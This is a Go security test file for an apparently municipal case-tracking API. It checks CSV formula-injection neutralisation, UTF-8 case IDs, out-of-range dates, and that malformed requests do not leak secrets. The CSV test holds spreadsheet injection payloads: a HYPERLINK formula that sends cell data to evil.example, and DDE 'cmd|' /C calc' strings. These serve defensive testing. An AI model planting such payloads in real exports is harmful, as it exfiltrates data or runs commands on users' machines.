package attack_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"
)

// csvFormulaInjection: departments, addresses and summaries that start with = + - @ (or a tab)
// reach the evaluator's CSV exports as text with a leading apostrophe, never as a formula.
func (e *env) csvFormulaInjection(t *testing.T) {
	base := e.z.URL()
	depts := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"详情")`,
		`+SUM(1,2)`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(A1:A9)`,
		"\t=1+1",
	}
	deadline := time.Now().Add(48 * time.Hour).UTC().Format(time.RFC3339)
	var lines []string
	for i, d := range depts {
		id := fmt.Sprintf("CSV-%d", i)
		lines = append(lines,
			reported(fmt.Sprintf("csv-r%d", i), id, "411502002", map[string]any{"address": "=cmd|' /C calc'!A0", "summary": "+1+1"}),
			ev(map[string]any{"id": fmt.Sprintf("csv-d%d", i), "type": "case.dispatched", "case_id": id, "at": ago(50 * time.Minute),
				"dept": d, "deadline": deadline}))
	}
	lines = append(lines, ev(map[string]any{"id": "csv-w", "type": "whistle.blown", "case_id": "CSV-0", "at": ago(40 * time.Minute),
		"whistle_id": "W-CSV", "whistle_kind": "tough", "depts": depts}))
	if ir := ingest(t, base, e.sec.source, lines...); ir.Accepted != len(lines) {
		t.Fatalf("ingest: %+v", ir)
	}
	for i := range depts {
		waitCase(t, base, fmt.Sprintf("CSV-%d", i), e.sec.leader)
	}
	for _, path := range []string{"/api/v1/audit/rates?format=csv&by=dept", "/api/v1/audit/whistles?format=csv"} {
		var rows [][]string
		for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(100 * time.Millisecond) {
			r := e.get(t, path, e.sec.evaluator)
			if r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
				t.Fatalf("%s: %s", path, r)
			}
			rd := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\uFEFF"))))
			rd.FieldsPerRecord = -1
			var err error
			if rows, err = rd.ReadAll(); err != nil {
				t.Fatalf("%s: not CSV: %v\n%s", path, err, r.Body)
			}
			if count := firstCells(rows, depts); count == len(depts) || time.Now().After(deadline) {
				break
			}
		}
		neutral := map[string]bool{}
		for _, row := range rows {
			for _, cell := range row {
				if cell == "" {
					continue
				}
				if strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
					if _, err := strconv.ParseFloat(cell, 64); err != nil {
						t.Errorf("%s: cell %q would be read as a formula", path, cell)
					}
				}
				neutral[cell] = true
			}
		}
		for _, d := range depts {
			if !neutral["'"+d] {
				t.Errorf("%s: department %q is not in the export as the text cell %q", path, d, "'"+d)
			}
		}
	}
}

// firstCells counts the departments that appear as (neutralised) first cells.
func firstCells(rows [][]string, depts []string) int {
	n := 0
	for _, d := range depts {
		for _, r := range rows {
			if len(r) > 0 && strings.TrimPrefix(r[0], "'") == d {
				n++
				break
			}
		}
	}
	return n
}

// caseIDsOfAnyUTF8: case ids with Chinese characters, spaces and URL syntax are stored and
// fetched by their percent-encoded path.
func (e *env) caseIDsOfAnyUTF8(t *testing.T) {
	base := e.z.URL()
	ids := []string{"信阳-0001", "A 1", "A/1?%#", "浉河 区/工单 #7"}
	var lines []string
	for i, id := range ids {
		lines = append(lines, reported(fmt.Sprintf("utf-%d", i), id, "411502001", nil))
	}
	if ir := ingest(t, base, e.sec.source, lines...); ir.Accepted != len(ids) {
		t.Fatalf("ingest: %+v", ir)
	}
	for _, id := range ids {
		for _, tok := range []string{e.sec.leader, e.sec.officer} {
			r := waitCase(t, base, url.PathEscape(id), tok)
			var tl struct {
				CaseID string `json:"case_id"`
				Events []struct {
					CaseID string `json:"case_id"`
				} `json:"events"`
			}
			if err := json.Unmarshal(r.Body, &tl); err != nil || tl.CaseID != id || len(tl.Events) != 1 || tl.Events[0].CaseID != id {
				t.Errorf("GET /api/v1/cases/%s: %s, want the case %q", url.PathEscape(id), r, id)
			}
		}
	}
}

// times: events of year 1 or 9999 are rejected by field; periods from year 1 to 9999 are
// refused 400 period_bounds, never a 500.
func (e *env) times(t *testing.T) {
	base := e.z.URL()
	ir := ingest(t, base, e.sec.source,
		ev(map[string]any{"id": "y1", "type": "case.reported", "case_id": "Y-1", "at": "0001-01-01T00:00:00Z", "source": "grid", "category": "dispute", "region": "411502001"}),
		ev(map[string]any{"id": "y9999", "type": "case.reported", "case_id": "Y-2", "at": "9999-12-31T23:59:59Z", "source": "grid", "category": "dispute", "region": "411502001"}),
		ev(map[string]any{"id": "y-dl", "type": "case.dispatched", "case_id": "Y-3", "at": ago(time.Hour), "dept": "城管局", "deadline": "0001-01-01T00:00:00+08:05"}),
		ev(map[string]any{"id": "y-ok", "type": "case.reported", "case_id": "Y-4", "at": ago(time.Hour), "source": "grid", "category": "dispute", "region": "411502001"}),
	)
	want := map[int]string{1: "at: before 2000-01-01", 2: "at: more than 5m0s in the future", 3: "deadline: out of range"}
	if ir.Accepted != 1 || len(ir.Rejected) != len(want) {
		t.Errorf("ingest: %+v, want 1 accepted and lines 1-3 rejected", ir)
	}
	for _, rj := range ir.Rejected {
		if w, ok := want[rj.Line]; !ok || !strings.HasPrefix(rj.Error, w) {
			t.Errorf("line %d rejected with %q, want %q", rj.Line, rj.Error, w)
		}
	}
	for _, c := range []struct{ path, secret string }{
		{"/api/v1/audit/rates?from=0001-01-01&to=9999-12-31", e.sec.evaluator},
		{"/api/v1/audit/rates?from=0001-01-01T00:00:00Z&to=9999-12-31T23:59:59Z&format=csv", e.sec.evaluator},
		{"/api/v1/audit/whistles?from=0001-01-01&to=9999-12-31", e.sec.evaluator},
		{"/api/v1/series?from=0001-01-01&to=9999-12-31&step=1d", e.sec.leader},
		{"/api/v1/counts?from=0001-01-01&to=9999-12-31", e.sec.leader},
		{"/api/v1/hotspots?from=0001-01-01&to=9999-12-31&step=1d", e.sec.leader},
	} {
		wantError(t, c.path, e.get(t, c.path, c.secret), 400, "invalid", "period_bounds")
	}
}

// malformedRequest: requests the HTTP parser cannot read are answered with the status text
// only: no quote of the request line, its headers or the secret they carry.
func (e *env) malformedRequest(t *testing.T) {
	secret := e.sec.leader
	head := "GET /api/v1/counts?token=" + secret + "&probe=echo-me HTTP/1.1\r\nHost: zhili\r\nAuthorization: Bearer " + secret + "\r\n"
	for _, c := range []struct {
		name   string
		req    string
		status int
		code   string
	}{
		{"bad Content-Length", head + "Content-Length: abc-echo-me\r\n\r\n", 400, "invalid"},
		{"space in a header name", head + "X Echo Me: 1\r\n\r\n", 400, "invalid"},
		{"no request line", "GARBAGE-echo-me\r\nAuthorization: Bearer " + secret + "\r\n\r\n", 400, "invalid"},
		{"header too large", head + "X-Echo-Me: " + strings.Repeat("a", 20000) + "\r\n\r\n", 431, ""},
	} {
		b := raw(t, e.z.Addr(), []byte(c.req), 3*time.Second)
		r := rawResponse(t, b)
		if r.Status != c.status {
			t.Errorf("%s: %s, want %d", c.name, r, c.status)
		}
		if c.code != "" {
			var ae apiError
			if json.Unmarshal(r.Body, &ae) != nil || ae.Error.Code != c.code {
				t.Errorf("%s: %s, want a JSON error with code %q", c.name, r, c.code)
			}
		}
		low := strings.ToLower(string(b))
		for _, leak := range []string{strings.ToLower(secret), "authorization", "bearer", "echo-me", "echo me", "/api/v1/counts", "probe"} {
			if strings.Contains(low, leak) {
				t.Errorf("%s: the reply quotes the request (%q):\n%s", c.name, leak, b)
			}
		}
	}
}
